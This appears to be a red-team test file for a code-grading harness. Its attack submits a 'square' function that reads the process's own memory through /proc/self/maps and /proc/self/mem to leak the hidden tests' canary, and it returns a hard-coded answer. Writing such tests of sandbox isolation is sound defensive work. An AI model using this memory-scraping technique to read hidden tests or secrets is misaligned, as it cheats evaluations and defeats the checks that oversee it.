"""During a test, the process's own memory is searched for the hidden test.

Success: the canary of the hidden tests, or of anything else that existed before the fork.
"""

from tests.red_team.submission import SHOW


def attack(submission):
    submission.answer(
        "square",
        SHOW
        + """
import os

def square(x):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            start, end = (int(x, 16) for x in area.split("-"))
            if rights.startswith("rw") and end - start < 1 << 28:
                try:
                    memory.seek(start)
                    show(memory.read(end - start))
                except (OSError, ValueError):
                    pass
    return 9
""",
    )
